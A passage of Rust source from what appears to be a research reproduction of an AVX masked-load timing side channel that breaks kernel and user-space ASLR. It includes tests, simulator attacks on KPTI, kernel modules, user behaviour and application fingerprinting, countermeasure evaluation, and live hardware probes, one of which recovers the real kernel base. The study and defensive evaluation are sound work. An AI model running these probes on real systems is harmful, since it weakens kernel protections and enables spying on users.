                    ProbeStrategy::MinOf(n) => u32::from(n.max(1)),
                };
                let width = samples.saturating_mul(factor).clamp(1, 255) as u8;
                escalated.strategy = ProbeStrategy::MinOf(width);
            }
        }
        Self {
            attack: escalated,
            config,
        }
    }

    /// Runs the confirmation protocol on one candidate: escalated
    /// re-visits until the slot-level test decides.
    pub fn confirm_mapped<P: Prober + ?Sized>(&self, p: &mut P, addr: VirtAddr) -> Confirmation {
        let mut sprt = SlotSprt::new(self.config);
        let mut probes = 0u64;
        loop {
            let sweep = self.attack.sweep(p, &[addr]);
            probes += sweep.probes;
            if let Some(confirmed) = sprt.push(sweep.mapped[0]) {
                return Confirmation {
                    confirmed,
                    visits: sprt.visits(),
                    probes,
                };
            }
        }
    }

    /// Confirms candidates in stream order and returns the first that
    /// survives — the replacement for every first-mapped-wins rule.
    /// Stops testing after [`ConfirmConfig::max_candidates`].
    pub fn first_confirmed<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        candidates: impl IntoIterator<Item = (u64, VirtAddr)>,
    ) -> FirstConfirmed {
        let mut out = FirstConfirmed {
            slot: None,
            tested: 0,
            probes: 0,
        };
        for (slot, addr) in candidates {
            if out.tested >= self.config.max_candidates.max(1) {
                break;
            }
            out.tested += 1;
            let confirmation = self.confirm_mapped(p, addr);
            out.probes += confirmation.probes;
            if confirmation.confirmed {
                out.slot = Some(slot);
                break;
            }
        }
        out
    }
}

/// Gap-tolerant tracker for run-shaped needles (a mapped run of at
/// least `min_run` slots). Callers feed *confirmed* per-slot verdicts
/// in slot order — re-probing a breaking slot before feeding it is the
/// caller's job (via [`Confirmer::confirm_mapped`]) — and the tracker
/// keeps a promising run alive across up to
/// [`ConfirmConfig::gap_tolerance`] confirmed-unmapped gap slots.
/// State persists across streamed chunks, so runs straddling a chunk
/// seam are tracked identically to interior runs.
#[derive(Clone, Copy, Debug)]
pub struct RunTracker {
    min_run: u64,
    gap_tolerance: u64,
    run_start: Option<u64>,
    run_len: u64,
    gaps: u64,
}

impl RunTracker {
    /// Tracker for runs of at least `min_run` mapped slots, tolerating
    /// `gap_tolerance` confirmed gaps inside a promising run.
    #[must_use]
    pub fn new(min_run: u64, gap_tolerance: u64) -> Self {
        Self {
            min_run: min_run.max(1),
            gap_tolerance,
            run_start: None,
            run_len: 0,
            gaps: 0,
        }
    }

    /// `true` while a candidate run is open — the caller should
    /// re-probe a breaking slot before feeding its verdict.
    #[must_use]
    pub fn in_run(&self) -> bool {
        self.run_len > 0
    }

    /// Mapped slots of the currently open run.
    #[must_use]
    pub fn run_len(&self) -> u64 {
        self.run_len
    }

    /// Feeds one confirmed verdict; returns `Some(run_start)` the
    /// moment the open run reaches `min_run` mapped slots.
    pub fn observe(&mut self, slot: u64, mapped: bool) -> Option<u64> {
        if mapped {
            if self.run_start.is_none() {
                self.run_start = Some(slot);
                self.gaps = 0;
            }
            self.run_len += 1;
            if self.run_len >= self.min_run {
                return self.run_start;
            }
        } else if self.run_len > 0 && self.gaps < self.gap_tolerance {
            self.gaps += 1;
        } else {
            self.run_start = None;
            self.run_len = 0;
            self.gaps = 0;
        }
        None
    }
}

/// Start indices of every mapped run of at least `min_run` slots, in
/// order, plus — matching the historical trailing rule of the
/// kernel-base scan — a shorter run that touches the end of the
/// bitmap. The first entry is exactly what the legacy
/// first-mapped-run rule selects; confirmation iterates the rest when
/// the first anchor fails its re-test.
#[must_use]
pub fn run_anchors(mapped: &[bool], min_run: usize) -> Vec<usize> {
    let mut anchors = Vec::new();
    let mut run = 0usize;
    for (i, &m) in mapped.iter().enumerate() {
        if m {
            run += 1;
            if run == min_run.max(1) {
                anchors.push(i + 1 - run);
            }
        } else {
            run = 0;
        }
    }
    if run >= 1 && run < min_run.max(1) {
        anchors.push(mapped.len() - run);
    }
    anchors
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::adaptive::{AdaptiveConfig, AdaptiveSampler};
    use crate::calibrate::Threshold;
    use crate::prober::SimProber;
    use avx_os::linux::{LinuxConfig, LinuxSystem};
    use avx_uarch::{CpuProfile, NoiseModel};

    fn config() -> ConfirmConfig {
        ConfirmConfig::default()
    }

    #[test]
    fn slot_sprt_confirms_on_k_consecutive_mapped() {
        let mut sprt = SlotSprt::new(config());
        assert_eq!(sprt.push(true), None);
        assert_eq!(sprt.push(true), Some(true));
        assert_eq!(sprt.visits(), 2);
    }

    #[test]
    fn slot_sprt_rejects_on_consecutive_unmapped() {
        let mut sprt = SlotSprt::new(config());
        assert_eq!(sprt.push(false), None);
        assert_eq!(sprt.push(false), Some(false));
    }

    #[test]
    fn slot_sprt_recovers_from_one_false_negative() {
        // A single unmapped re-visit on the true needle resets the
        // streak but does not reject: two later concordant mapped
        // verdicts still confirm.
        let mut sprt = SlotSprt::new(config());
        assert_eq!(sprt.push(true), None);
        assert_eq!(sprt.push(false), None, "streak broken, not rejected");
        assert_eq!(sprt.push(true), None);
        assert_eq!(sprt.push(true), Some(true));
    }

    #[test]
    fn slot_sprt_forces_at_the_revisit_budget() {
        let tight = ConfirmConfig {
            revisits: 4,
            max_revisits: 3,
            ..config()
        };
        let mut sprt = SlotSprt::new(tight);
        sprt.push(true);
        sprt.push(false);
        // Third visit exhausts the budget: evidence is balanced at one
        // mapped vs one unmapped, and the final mapped verdict tips the
        // forced sign toward mapped.
        assert_eq!(sprt.push(true), Some(true));
        assert_eq!(sprt.visits(), 3);
    }

    #[test]
    fn higher_confidence_demands_more_revisits() {
        let strict = ConfirmConfig {
            error_rate: 1e-4,
            revisits: 2,
            max_revisits: 16,
            ..config()
        };
        let mut sprt = SlotSprt::new(strict);
        let mut decided_at = 0;
        for visit in 1..=16 {
            if sprt.push(true).is_some() {
                decided_at = visit;
                break;
            }
        }
        assert!(
            decided_at > 2,
            "ε = 1e-4 must outlast the default two re-visits: {decided_at}"
        );
    }

    fn quiet_kpti(seed: u64) -> (SimProber, avx_os::LinuxTruth) {
        let sys = LinuxSystem::build(LinuxConfig {
            kpti: true,
            ..LinuxConfig::seeded(seed)
        });
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
        m.set_noise(NoiseModel::none());
        (SimProber::new(m), truth)
    }

    #[test]
    fn confirmer_escalates_the_adaptive_budget() {
        let th = Threshold::new(93.0, 7.0);
        let attack =
            PageTableAttack::new(th).with_adaptive(AdaptiveSampler::from_threshold(&th, 1.0));
        let confirmer = Confirmer::new(&attack, config());
        let escalated = confirmer.attack.sampler.expect("adaptive path kept");
        assert_eq!(
            escalated.config.max_probes,
            AdaptiveConfig::default().max_probes * 2
        );
    }

    #[test]
    fn confirmer_escalates_the_fixed_width_and_drops_recal() {
        let th = Threshold::new(93.0, 7.0);
        let attack =
            PageTableAttack::new(th).with_recalibration(crate::recal::RecalConfig::default());
        let confirmer = Confirmer::new(&attack, config());
        assert_eq!(
            confirmer.attack.strategy,
            ProbeStrategy::MinOf(2),
            "second-of-two: one kept sample, escalated ×2"
        );
        assert!(
            confirmer.attack.recal.is_none(),
            "re-visits run open-loop; the driver owns the refit loop"
        );
        let wide = PageTableAttack {
            strategy: ProbeStrategy::MinOf(3),
            ..attack
        };
        assert_eq!(
            Confirmer::new(&wide, config()).attack.strategy,
            ProbeStrategy::MinOf(6)
        );
    }

    #[test]
    fn confirmer_accepts_the_needle_and_rejects_background() {
        let (mut p, truth) = quiet_kpti(3);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = PageTableAttack::new(th);
        let confirmer = Confirmer::new(&attack, config());
        let trampoline = truth.trampoline.expect("KPTI system");
        let hit = confirmer.confirm_mapped(&mut p, trampoline);
        assert!(hit.confirmed);
        assert_eq!(hit.visits, 2, "quiet host: K re-visits suffice");
        assert!(hit.probes > 0);
        let miss = confirmer.confirm_mapped(&mut p, truth.user.calibration.wrapping_add(0x1000));
        // Calibration page + 0x1000 is unmapped in this layout.
        assert!(!miss.confirmed);
    }

    #[test]
    fn first_confirmed_skips_false_positives_and_respects_the_cap() {
        let (mut p, truth) = quiet_kpti(5);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let confirmer = Confirmer::new(&PageTableAttack::new(th), config());
        let trampoline = truth.trampoline.expect("KPTI system");
        let bogus = truth.user.calibration.wrapping_add(0x1000);
        let found =
            confirmer.first_confirmed(&mut p, [(7u64, bogus), (9u64, trampoline), (11u64, bogus)]);
        assert_eq!(found.slot, Some(9), "false positive rejected, needle kept");
        assert_eq!(found.tested, 2, "stream stops at the first confirmation");

        let capped = ConfirmConfig {
            max_candidates: 1,
            ..config()
        };
        let confirmer = Confirmer::new(&PageTableAttack::new(th), capped);
        let found = confirmer.first_confirmed(&mut p, [(7u64, bogus), (9u64, trampoline)]);
        assert_eq!(found.slot, None, "backstop stops the candidate stream");
        assert_eq!(found.tested, 1);
    }

    #[test]
    fn run_tracker_finds_runs_and_tolerates_one_confirmed_gap() {
        let mut tracker = RunTracker::new(5, 1);
        for slot in 0..4 {
            assert_eq!(tracker.observe(slot, true), None);
        }
        assert_eq!(tracker.observe(4, true), Some(0));

        // One confirmed gap inside the run survives; the second resets.
        let mut tracker = RunTracker::new(5, 1);
        for slot in 0..3 {
            tracker.observe(slot, true);
        }
        assert_eq!(tracker.observe(3, false), None);
        assert!(tracker.in_run(), "gap tolerated");
        assert_eq!(tracker.observe(4, true), None);
        assert_eq!(tracker.observe(5, true), Some(0), "run start unchanged");

        let mut tracker = RunTracker::new(3, 0);
        tracker.observe(0, true);
        tracker.observe(1, false);
        assert!(!tracker.in_run(), "zero tolerance resets immediately");
    }

    #[test]
    fn run_tracker_state_spans_chunk_seams() {
        // Feeding verdicts in two "chunks" is invisible to the tracker:
        // a run straddling the seam is found at its true start.
        let mut tracker = RunTracker::new(5, 1);
        let first_chunk = 1022..1024u64;
        let second_chunk = 1024..1027u64;
        for slot in first_chunk {
            assert_eq!(tracker.observe(slot, true), None);
        }
        let mut found = None;
        for slot in second_chunk {
            found = found.or(tracker.observe(slot, true));
        }
        assert_eq!(found, Some(1022));
    }

    #[test]
    fn run_anchors_matches_the_legacy_first_run_rule() {
        // First anchor == the historical first_mapped_run selection.
        assert_eq!(run_anchors(&[false, true, true, false], 2), vec![1]);
        assert_eq!(run_anchors(&[true, false, true, true], 2), vec![2]);
        assert_eq!(run_anchors(&[false, false], 2), Vec::<usize>::new());
        // Trailing single mapped slot still counts (kernel at the end).
        assert_eq!(run_anchors(&[false, false, true], 2), vec![2]);
        // All qualifying runs are surfaced, in order.
        assert_eq!(
            run_anchors(&[true, true, false, true, true, false, true], 2),
            vec![0, 3, 6]
        );
    }
}
