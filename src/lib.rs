//! # avx-aslr — umbrella crate for the DAC 2023 AVX/ASLR reproduction
//!
//! Re-exports the whole workspace under one roof and hosts the runnable
//! examples (`examples/`) and the cross-crate integration tests
//! (`tests/`). See the individual crates for the substance:
//!
//! * [`mmu`] (`avx-mmu`) — x86-64 paging, TLB, paging-structure caches,
//! * [`uarch`] (`avx-uarch`) — the masked-op timing engine and CPU profiles,
//! * [`os`] (`avx-os`) — Linux/Windows/SGX/cloud memory-layout models,
//! * [`channel`] (`avx-channel`) — the attack primitives and end-to-end
//!   attacks,
//! * [`hw`] (`avx-hw`) — the real-hardware prober and the VEX scanner.
//!
//! ```
//! use avx_aslr::channel::{KernelBaseFinder, SimProber, Threshold};
//! use avx_aslr::os::linux::{LinuxConfig, LinuxSystem};
//! use avx_aslr::uarch::CpuProfile;
//!
//! let system = LinuxSystem::build(LinuxConfig::seeded(1));
//! let (machine, truth) = system.into_machine(CpuProfile::alder_lake_i5_12400f(), 1);
//! let mut prober = SimProber::new(machine);
//! let threshold = Threshold::calibrate(&mut prober, truth.user.calibration, 16);
//! let scan = KernelBaseFinder::new(threshold).scan(&mut prober);
//! assert_eq!(scan.base, Some(truth.kernel_base));
//! ```

#![deny(missing_docs)]

pub use avx_channel as channel;
pub use avx_hw as hw;
pub use avx_mmu as mmu;
pub use avx_os as os;
pub use avx_uarch as uarch;
