//! Live hardware demonstration of property P1 and the timing channel.
//!
//! Runs the *real* AVX2 masked-load probe (the paper's PoC instruction
//! sequence) on this machine, if it is an x86-64 with AVX2:
//!
//! 1. all-zero-mask probes of unmapped and kernel addresses complete
//!    without a fault (P1 — fault suppression),
//! 2. latency histograms for an own mapped page vs a wild unmapped
//!    address vs a kernel address are printed — on most CPUs the bands
//!    differ, which is the entire side channel.
//!
//! On other hosts the example explains itself and exits cleanly.
//!
//! ```text
//! cargo run --release --example hw_probe
//! ```

use avx_channel::stats::Summary;
use avx_channel::Prober;
use avx_hw::HwProber;
use avx_mmu::VirtAddr;
use avx_uarch::OpKind;

fn main() {
    // SAFETY: this demo probes (a) its own buffer, (b) a canonical but
    // almost-certainly-unmapped user address, (c) the kernel text
    // region. All probes use all-zero masks (architecturally
    // non-faulting, non-transferring); no MMIO is mapped in this
    // process.
    let mut prober = match unsafe { HwProber::new(3.0) } {
        Ok(p) => p,
        Err(e) => {
            println!("hardware probe unavailable on this host: {e}");
            println!("(the simulator examples work everywhere — try `quickstart`)");
            return;
        }
    };
    println!("AVX2 detected — running live masked-load probes.\n");

    let own = vec![0u8; 4096 * 4];
    let own_addr = VirtAddr::new_truncate(own.as_ptr() as u64 & !0xfff) // page-align
        .wrapping_add(4096);
    let wild = VirtAddr::new_truncate(0x1357_9bd0_0000);
    let kernel = VirtAddr::new_truncate(0xffff_ffff_8100_0000);

    let mut measure = |label: &str, addr: VirtAddr| {
        // Warm up, then min-filter 4096 probes (live machines are noisy).
        for _ in 0..64 {
            let _ = prober.probe(OpKind::Load, addr);
        }
        let samples: Vec<u64> = (0..4096)
            .map(|_| prober.probe(OpKind::Load, addr))
            .collect();
        let s = Summary::of(&samples);
        println!("  {label:<28} {s}");
        s.median
    };

    println!("masked-load latency (cycles):");
    let own_med = measure("own mapped page", own_addr);
    let wild_med = measure("wild (unmapped) address", wild);
    let kernel_med = measure("kernel text address", kernel);

    println!("\nno page fault was raised by any probe — property P1 holds live.");
    if wild_med > own_med || kernel_med > own_med {
        println!(
            "timing bands differ (own {own_med}, wild {wild_med}, kernel {kernel_med}): \
             the side channel is visible on this CPU."
        );
    } else {
        println!(
            "bands are indistinguishable on this CPU/kernel (own {own_med}, wild {wild_med}, \
             kernel {kernel_med}) — likely mitigated or virtualized."
        );
    }
}
