//! Countermeasure evaluation (paper §V): FLARE, FGKASLR and the
//! masked-op NOP-replacement survey.
//!
//! ```text
//! cargo run --release --example countermeasures
//! ```

use avx_channel::countermeasures::{evaluate_fgkaslr, evaluate_flare, MaskedOpSurvey};
use avx_hw::scan::{survey_corpus, synthetic_corpus};
use avx_uarch::CpuProfile;

fn main() {
    flare();
    fgkaslr();
    survey();
}

/// FLARE maps dummy pages over unmapped kernel ranges: the page-table
/// attack is blinded, the TLB attack is not (§V-A).
fn flare() {
    println!("== FLARE ==");
    let eval = evaluate_flare(CpuProfile::alder_lake_i5_12400f(), 31);
    println!("{eval}");
    assert!(eval.page_table_defeated, "FLARE must blind P2");
    assert!(eval.tlb_correct, "the TLB attack must still win");
    println!(
        "=> dummy mappings defeat the page-table attack ({} slots look mapped) \
         but the TLB attack recovers the base anyway.\n",
        eval.page_table_mapped_slots
    );
}

/// FGKASLR shuffles functions inside the image: the base still leaks,
/// and a TLB template attack finds a target function's page.
fn fgkaslr() {
    println!("== FGKASLR ==");
    for function in ["commit_creds", "prepare_kernel_cred", "bprm_execve"] {
        let eval = evaluate_fgkaslr(CpuProfile::alder_lake_i5_12400f(), 32, function);
        println!(
            "target {function}: base {} / function page {} ({:?})",
            if eval.base_correct {
                "recovered"
            } else {
                "lost"
            },
            if eval.function_page_correct {
                "located"
            } else {
                "missed"
            },
            eval.function_page
        );
        assert!(eval.base_correct && eval.function_page_correct);
    }
    println!("=> function-granular shuffling does not stop page-granular templating.\n");
}

/// §V-B: how many binaries would a NOP-replacement mitigation affect?
fn survey() {
    println!("== masked-op usage survey ==");
    let corpus = synthetic_corpus(4104, 6, 16 * 1024, 33);
    let count = survey_corpus(&corpus);
    let s = MaskedOpSurvey {
        total: count.total,
        containing: count.containing,
    };
    println!("{s} [paper: 6 of 4104]");
    println!(
        "=> replacing all-zero-mask VMASKMOV with NOPs would affect {:.3} % of binaries: {} impact.",
        s.affected_fraction() * 100.0,
        if s.low_impact() { "low" } else { "high" }
    );
}
