//! Kernel reconnaissance: module identification, KPTI bypass and
//! user-behaviour spying (paper §IV-C/D/E).
//!
//! ```text
//! cargo run --release --example kernel_recon
//! ```

use avx_channel::attacks::behavior::{SpyConfig, TlbSpy};
use avx_channel::attacks::modules::score;
use avx_channel::report::{ascii_plot_clamped, Series};
use avx_channel::{KptiAttack, ModuleClassifier, ModuleScanner, SimProber, Threshold, TlbAttack};
use avx_os::activity::{apply_activity, ActivityTimeline};
use avx_os::linux::{LinuxConfig, LinuxSystem, KPTI_TRAMPOLINE_OFFSET};
use avx_os::modules::UBUNTU_18_04_MODULES;
use avx_uarch::CpuProfile;

fn main() {
    module_identification();
    kpti_bypass();
    behaviour_spy();
}

/// §IV-C: find every loaded module and identify the unique-sized ones.
fn module_identification() {
    println!("== kernel-module identification (16384-slot scan) ==");
    let system = LinuxSystem::build(LinuxConfig::seeded(5));
    let (machine, truth) = system.into_machine(CpuProfile::ice_lake_i7_1065g7(), 5);
    let mut p = SimProber::new(machine);
    let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);

    let scan = ModuleScanner::new(th).scan(&mut p);
    let ids = ModuleClassifier::new(&UBUNTU_18_04_MODULES).classify(&scan);
    let s = score(&scan, &ids, &truth.modules);

    println!(
        "detected {} module regions ({} truly loaded)",
        scan.detected.len(),
        truth.modules.len()
    );
    let identified: Vec<_> = ids.iter().filter_map(|i| i.unique_name()).collect();
    println!(
        "identified by unique size ({}): {}",
        identified.len(),
        identified.join(", ")
    );
    println!(
        "exact-detection accuracy {:.2} %, identification accuracy {:.2} %\n",
        s.exact.percent(),
        s.identified.percent()
    );
}

/// §IV-D: KPTI hides the kernel, but the trampoline gives the base away.
fn kpti_bypass() {
    println!("== KASLR break on a KPTI-hardened kernel ==");
    let system = LinuxSystem::build(LinuxConfig {
        kpti: true,
        ..LinuxConfig::seeded(6)
    });
    let (machine, truth) = system.into_machine(CpuProfile::alder_lake_i5_12400f(), 6);
    let mut p = SimProber::new(machine);
    let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);

    let scan = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET).scan(&mut p);
    println!(
        "visible kernel slots: {} (the trampoline)",
        scan.mapped_slots.len()
    );
    println!(
        "trampoline {} - offset {:#x} = base {} (truth {})\n",
        scan.trampoline.expect("trampoline found"),
        KPTI_TRAMPOLINE_OFFSET,
        scan.base.expect("base derived"),
        truth.kernel_base
    );
    assert_eq!(scan.base, Some(truth.kernel_base));
}

/// §IV-E: watch the user stream Bluetooth audio via the TLB.
fn behaviour_spy() {
    println!("== user-behaviour inference via the bluetooth module ==");
    let timeline = ActivityTimeline::bluetooth_session();
    let system = LinuxSystem::build(LinuxConfig::seeded(7));
    let (machine, truth) = system.into_machine(CpuProfile::ice_lake_i7_1065g7(), 7);
    let mut p = SimProber::new(machine);
    let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);

    let module = truth.module("bluetooth").expect("bluetooth loaded");
    let (base, pages) = (module.base, module.spec.pages());
    let tlb = TlbAttack::from_threshold(&th);
    let spy = TlbSpy::new(SpyConfig::default(), tlb);
    let trace = spy.monitor(&mut p, base, |p, t| {
        apply_activity(p.machine_mut(), &timeline, base, pages, t);
    });

    let series = Series {
        label: "bluetooth module access time (cycles) over 100 s".into(),
        points: trace
            .samples
            .iter()
            .map(|s| (s.t, s.cycles as f64))
            .collect(),
    };
    println!("{}", ascii_plot_clamped(&series, 100, 8, 500.0));
    println!(
        "low band = TLB hits = audio streaming; agreement with ground truth {:.1} %",
        trace.score(&timeline, tlb.hit_boundary) * 100.0
    );
}
