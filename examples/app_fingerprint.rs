//! Application fingerprinting via kernel-module activity vectors.
//!
//! The paper closes §IV-E with: "we believe that our attack will likely
//! be extended not only to monitor other events … but also to
//! fingerprint applications or websites". This example implements that
//! extension: the spy monitors several (size-identified, §IV-C) kernel
//! modules simultaneously; each application leaves a characteristic
//! per-module TLB-activity vector, matched against known profiles.
//!
//! ```text
//! cargo run --release --example app_fingerprint
//! ```

use avx_channel::attacks::behavior::AppFingerprinter;
use avx_channel::report::Table;
use avx_channel::{SimProber, Threshold, TlbAttack};
use avx_mmu::VirtAddr;
use avx_os::activity::apply_activity;
use avx_os::linux::{LinuxConfig, LinuxSystem};
use avx_os::AppProfile;
use avx_uarch::CpuProfile;

fn main() {
    let profiles = AppProfile::standard_set();
    println!(
        "profile database: {}",
        profiles
            .iter()
            .map(|p| p.name)
            .collect::<Vec<_>>()
            .join(", ")
    );

    let mut table = Table::new(["victim app", "classified as", "L1 distance", "verdict"]);
    for (i, victim) in profiles.iter().enumerate() {
        let seed = 500 + i as u64;
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (machine, truth) = sys.into_machine(CpuProfile::ice_lake_i7_1065g7(), seed);
        let mut p = SimProber::new(machine);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);

        // The spy first identifies the monitorable modules by size
        // (§IV-C) and then watches their base pages.
        let mut names: Vec<&'static str> = profiles
            .iter()
            .flat_map(|pr| pr.activity.iter().map(|(m, _)| *m))
            .collect();
        names.sort_unstable();
        names.dedup();
        let targets: Vec<(&'static str, VirtAddr)> = names
            .iter()
            .map(|&n| (n, truth.module(n).expect("module loaded").base))
            .collect();

        // The victim runs for 60 s; its driver usage follows the
        // profile's activity fractions.
        let timelines = victim.timelines(60.0, seed);
        let spy = AppFingerprinter::new(TlbAttack::from_threshold(&th), 60);
        let observed = spy.observe(&mut p, &targets, |p, t| {
            for (module, tl) in &timelines {
                let m = truth.module(module).expect("module loaded");
                apply_activity(p.machine_mut(), tl, m.base, m.spec.pages(), t);
            }
        });

        let (best, dist) = spy.classify(&observed, &profiles).expect("profiles");
        table.row([
            victim.name.to_string(),
            best.name.to_string(),
            format!("{dist:.2}"),
            if best.name == victim.name {
                "correct".to_string()
            } else {
                "WRONG".to_string()
            },
        ]);
        assert_eq!(best.name, victim.name);
    }
    println!("{table}");
    println!("=> per-module TLB activity identifies the running application.");
}
