//! Live KASLR probe on this machine (the paper's end-to-end PoC).
//!
//! Runs the real §IV-B procedure with actual AVX2 masked loads: probe
//! all 512 candidate kernel-text offsets twice each, keep the second
//! measurement (min-filtered over rounds against interrupt noise), and
//! look for a bimodal split. On bare-metal Linux without KPTI this
//! recovers the kernel base like the paper's PoC; on KPTI machines,
//! VMs, or non-Linux hosts it reports what it sees and why that is
//! expected.
//!
//! The probes are architecturally non-faulting and transfer no data —
//! this example only *times* instructions.
//!
//! ```text
//! cargo run --release --example hw_kaslr
//! ```

use avx_channel::report::{ascii_plot_clamped, Series};
use avx_channel::{Prober, Threshold};
use avx_hw::HwProber;
use avx_mmu::VirtAddr;
use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS, KERNEL_TEXT_REGION_START};
use avx_uarch::OpKind;

const ROUNDS: usize = 16;

fn main() {
    // SAFETY: probes use all-zero masks (non-faulting, non-transferring)
    // on the kernel-text candidate range; no MMIO is mapped there from
    // this process's perspective — worst case the probe is slow.
    let mut prober = match unsafe { HwProber::new(3.0) } {
        Ok(p) => p,
        Err(e) => {
            println!("hardware probing unavailable: {e}");
            println!("(run the simulator examples instead, e.g. `quickstart`)");
            return;
        }
    };

    println!("probing {KERNEL_SLOTS} kernel-text offsets × {ROUNDS} rounds ...");
    let mut samples = vec![u64::MAX; KERNEL_SLOTS as usize];
    for _ in 0..ROUNDS {
        for (slot, best) in samples.iter_mut().enumerate() {
            let addr = VirtAddr::new_truncate(KERNEL_TEXT_REGION_START + slot as u64 * KASLR_ALIGN);
            // Paper methodology: probe twice, keep the second; min over
            // rounds rejects interrupts.
            let _ = prober.probe(OpKind::Load, addr);
            let t = prober.probe(OpKind::Load, addr);
            *best = (*best).min(t);
        }
    }

    let series = Series::from_samples("live kernel-offset probe latencies", &samples);
    let min = *samples.iter().min().unwrap() as f64;
    println!("{}", ascii_plot_clamped(&series, 100, 12, min + 60.0));

    // EM threshold re-fit (recovers both bands and the live σ); the
    // historical k-means split remains as the fallback for landscapes
    // the separation-honesty check rejects.
    let refit = Threshold::refit_bimodal(&samples)
        .map(|fit| fit.threshold)
        .or_else(|| Threshold::from_bimodal_samples(&samples));
    match refit {
        Some(th) => {
            let mapped: Vec<usize> = samples
                .iter()
                .enumerate()
                .filter(|(_, &s)| th.is_mapped(s))
                .map(|(i, _)| i)
                .collect();
            let bimodal = !mapped.is_empty() && mapped.len() < samples.len() / 2;
            if bimodal {
                let base = KERNEL_TEXT_REGION_START + mapped[0] as u64 * KASLR_ALIGN;
                println!(
                    "bimodal split at {:.0} cycles: {} fast slots starting at offset {} → candidate base {:#x}",
                    th.boundary(),
                    mapped.len(),
                    mapped[0],
                    base
                );
                println!(
                    "(verify against /proc/kallsyms with root: `sudo head -1 /proc/kallsyms`)"
                );
            } else {
                println!(
                    "no usable bimodal structure ({} of {} slots below the split): \
                     KPTI, virtualization or prefetch mitigations likely hide the kernel here — \
                     the expected outcome on hardened hosts.",
                    mapped.len(),
                    samples.len()
                );
            }
        }
        None => println!("flat latency landscape — no signal on this host."),
    }
}
