//! The AMD variant of the KASLR break (paper §IV-B, Zen 3).
//!
//! On AMD, probing kernel addresses always triggers page-table walks —
//! mapped and unmapped pages time identically, so the Intel attack
//! fails. But the *walk-termination level* still leaks: the kernel
//! image contains 4 KiB-split slots (section-permission boundaries)
//! whose walks end at PT instead of PD, and their fixed in-image
//! pattern pins down the base.
//!
//! ```text
//! cargo run --release --example amd_attack
//! ```

use avx_channel::{AmdKernelBaseFinder, KernelBaseFinder, SimProber, Threshold};
use avx_os::linux::{LinuxConfig, LinuxSystem};
use avx_uarch::CpuProfile;

fn main() {
    let seed = 777u64;

    // First, show that the Intel-style attack is blind on Zen 3.
    let system = LinuxSystem::build(LinuxConfig::seeded(seed));
    let (machine, truth) = system.into_machine(CpuProfile::zen3_ryzen5_5600x(), seed);
    let mut p = SimProber::new(machine);
    let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);
    let intel_style = KernelBaseFinder::new(th).scan(&mut p);
    let blind = intel_style.base != Some(truth.kernel_base);
    println!(
        "Intel-style mapped/unmapped scan on Zen 3: {}",
        if blind {
            "fails (P-bit invisible — every kernel probe walks)".to_string()
        } else {
            format!("unexpectedly found {}", truth.kernel_base)
        }
    );

    // Now the level-based attack.
    let system = LinuxSystem::build(LinuxConfig::seeded(seed));
    let (machine, truth) = system.into_machine(CpuProfile::zen3_ryzen5_5600x(), seed + 1);
    let mut p = SimProber::new(machine);
    let scan = AmdKernelBaseFinder::for_default_kernel().scan(&mut p);

    println!(
        "PT-level outlier slots (4 KiB-backed kernel pages): {:?}",
        scan.outliers
    );
    println!(
        "matched split pattern [8, 9, 10, 18, 19] → base {} (truth {})",
        scan.base.expect("pattern matched"),
        truth.kernel_base
    );
    assert_eq!(scan.base, Some(truth.kernel_base));
    println!("=> KASLR broken on AMD through the page-table attack (P3).");
}
