//! Fine-grained user-space ASLR break from inside an SGX2 enclave
//! (paper §IV-F, Fig. 7).
//!
//! The attacker has no `/proc` access (enclave), only masked loads,
//! stores and `RDTSC`. It locates the app's code section in the 28-bit
//! ASLR window, maps region permissions, and fingerprints libraries via
//! section-size signatures — including allocator pages that never show
//! up in the maps file.
//!
//! ```text
//! cargo run --release --example userspace_sgx
//! ```

use avx_channel::attacks::userspace::{LibraryMatcher, UserSpaceScanner};
use avx_channel::{PermissionAttack, SimProber};
use avx_mmu::{AddressSpace, PageSize, PteFlags, VirtAddr};
use avx_os::process::{build_process, ImageSignature};
use avx_os::ExecutionContext;
use avx_uarch::{CpuProfile, Machine};

fn main() {
    // The victim process: Fig. 7 app + the standard library set.
    let mut space = AddressSpace::new();
    let truth = build_process(
        &mut space,
        &ImageSignature::fig7_app(),
        &ImageSignature::standard_set(),
        99,
    );
    // One attacker-owned page (the enclave's heap) for calibration.
    let own = VirtAddr::new_truncate(0x5400_0000_0000);
    space
        .map(own, PageSize::Size4K, PteFlags::user_ro())
        .expect("attacker page");

    let machine = Machine::new(CpuProfile::ice_lake_i7_1065g7(), space, 99);
    let mut p = SimProber::with_context(machine, ExecutionContext::sgx2());
    println!("context: {}", p.context());
    assert!(
        !p.context().has_proc_oracle(),
        "no /proc inside the enclave"
    );

    let perm = PermissionAttack::calibrate(&mut p, own);
    let scanner = UserSpaceScanner::new(perm);

    // Phase 1: find the app text in (a window of) the 0x55 ASLR range.
    // The full 2^28-page linear sweep is the same loop (the paper
    // reports 51 s on hardware); the window keeps this demo quick.
    let window = VirtAddr::new_truncate(truth.app.base.as_u64() - 4096 * 4096);
    let code = scanner
        .find_first_mapped(&mut p, window, 8192)
        .expect("code section found");
    println!(
        "app code section: {code} (truth {}, {})",
        truth.app.base,
        if code == truth.app.base {
            "exact"
        } else {
            "off"
        }
    );

    // Phase 2: map the library window page by page (load + store pass).
    let first = truth.libraries.first().expect("libs loaded").base;
    let last = truth.libraries.last().expect("libs loaded");
    let span = last.base.as_u64() + last.signature.span() + 0x10_0000 - first.as_u64();
    let map = scanner.scan(&mut p, first, span / 4096);
    println!("\ndetected regions (maps-file style, incl. hidden pages):");
    for region in map
        .regions
        .iter()
        .filter(|r| r.perm != avx_channel::ProbedPerm::NoneOrUnmapped || r.len() < 0x40_0000)
    {
        println!("  {region}");
    }

    // Phase 3: identify libraries by their section-size signatures.
    let matcher = LibraryMatcher::new(ImageSignature::standard_set());
    println!("\nlibrary fingerprints:");
